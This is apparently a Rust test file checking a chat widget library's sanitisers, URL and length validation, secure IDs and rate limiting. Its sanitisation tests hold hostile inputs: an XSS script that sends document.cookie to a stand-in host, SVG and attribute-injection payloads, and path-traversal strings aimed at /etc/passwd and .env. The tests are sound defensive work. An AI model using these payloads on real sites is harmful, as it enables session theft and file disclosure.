/// Public API checks for the security and rate limiting core
/// Mirrors how a rendering layer wires the pieces together
use chat_widget_core::common::clock::ManualClock;
use chat_widget_core::common::rate_limit::{LimiterRegistry, RateLimitSettings, RateLimiter};
use chat_widget_core::common::security::{
    generate_secure_id, sanitize_attribute, sanitize_config, sanitize_file_name, sanitize_text,
    validate_length, validate_url,
};
use serde_json::{json, Value};
use std::collections::HashSet;
use std::sync::Arc;
use tokio_util::sync::CancellationToken;

// ========== Sanitization ==========

#[test]
fn test_rendering_boundary() {
    let hostile = [
        "<script>document.location='https://evil.test/?c='+document.cookie</script>",
        "\"><svg onload=alert(1)>",
        "' autofocus onfocus='alert(1)",
        "&lt;already&gt; encoded",
    ];

    for input in hostile {
        let text = sanitize_text(input);
        let attribute = sanitize_attribute(input);
        for out in [&text, &attribute] {
            assert!(!out.contains('<'), "raw '<' in {}", out);
            assert!(!out.contains('"'), "raw '\"' in {}", out);
            assert!(!out.contains('\''), "raw quote in {}", out);
        }
    }
}

#[test]
fn test_file_names_from_uploads() {
    for input in ["../../../etc/passwd", "..\\..\\boot.ini", "/abs/path", "....//x", ".env"] {
        let name = sanitize_file_name(input);
        assert!(!name.is_empty());
        assert!(!name.contains('/') && !name.contains('\\') && !name.contains(".."));
        assert!(!name.starts_with('.'), "leading dot in {}", name);
    }
    assert_eq!(sanitize_file_name("///"), "___");
    assert_eq!(sanitize_file_name("."), "unnamed");
}

// ========== URL Validation ==========

#[test]
fn test_url_examples() {
    let allowed = vec!["example.com".to_string()];

    assert!(!validate_url("javascript:alert(1)", &[]));
    assert!(validate_url("https://example.com", &[]));
    assert!(!validate_url("https://evil-example.com", &allowed));
    assert!(validate_url("https://api.example.com", &allowed));
}

// ========== Length Validation ==========

#[test]
fn test_length_examples() {
    assert!(validate_length("hello", 10));
    assert!(!validate_length("hello world!", 5));
}

// ========== Secure IDs ==========

#[test]
fn test_secure_ids() {
    let ids: HashSet<String> = (0..1000).map(|_| generate_secure_id(16)).collect();
    assert_eq!(ids.len(), 1000);
    assert!(ids
        .iter()
        .all(|id| id.len() == 16 && id.chars().all(|c| c.is_ascii_alphanumeric())));
}

// ========== Config Sanitization ==========

#[test]
fn test_config_example() {
    let sanitized = sanitize_config(&json!({
        "name": "<b>x</b>",
        "n": 5,
        "tags": ["<i>y</i>", "z"],
    }));

    assert_eq!(
        Value::Object(sanitized),
        json!({
            "name": sanitize_text("<b>x</b>"),
            "n": 5,
            "tags": [sanitize_text("<i>y</i>"), "z"],
        })
    );
}

// ========== Rate Limiting ==========

#[test]
fn test_rate_limit_example() {
    let clock = ManualClock::new(0);
    let limiter = RateLimiter::new("general", Arc::new(clock.clone()));

    assert!(limiter.check_limit("k", 3, 1000));
    assert!(limiter.check_limit("k", 3, 1000));
    assert!(limiter.check_limit("k", 3, 1000));
    assert!(!limiter.check_limit("k", 3, 1000));

    clock.advance(1001);
    assert!(limiter.check_limit("k", 3, 1000));
}

#[test]
fn test_rate_limit_keys_independent() {
    let clock = ManualClock::new(0);
    let limiter = RateLimiter::new("general", Arc::new(clock));

    assert!(limiter.check_limit("a", 1, 1000));
    assert!(!limiter.check_limit("a", 1, 1000));
    assert!(limiter.check_limit("b", 1, 1000));
}

#[test]
fn test_isolated_registries() {
    let first = LimiterRegistry::new(RateLimitSettings::default(), Arc::new(ManualClock::new(0)));
    let second = LimiterRegistry::new(RateLimitSettings::default(), Arc::new(ManualClock::new(0)));

    for _ in 0..10 {
        assert!(first.message.check_limit("k", 10, 60_000));
    }
    assert!(!first.message.check_limit("k", 10, 60_000));
    assert!(second.message.check_limit("k", 10, 60_000));
}

#[tokio::test(start_paused = true)]
async fn test_scheduled_cleanup_bounds_memory() {
    let clock = ManualClock::new(0);
    let settings = RateLimitSettings {
        cleanup_interval_ms: Some(5 * 60 * 1000),
        ..Default::default()
    };
    let registry = LimiterRegistry::new(settings, Arc::new(clock.clone()));
    let token = CancellationToken::new();
    let handle = registry.spawn_cleanup(token.clone()).unwrap();

    for i in 0..500 {
        registry.general.check_limit(&format!("visitor-{}", i), 30, 60_000);
    }
    assert_eq!(registry.general.tracked_keys(), 500);

    clock.advance(60 * 60 * 1000);
    tokio::time::sleep(std::time::Duration::from_secs(5 * 60 + 1)).await;
    assert_eq!(registry.general.tracked_keys(), 0);

    token.cancel();
    handle.await.unwrap();
}
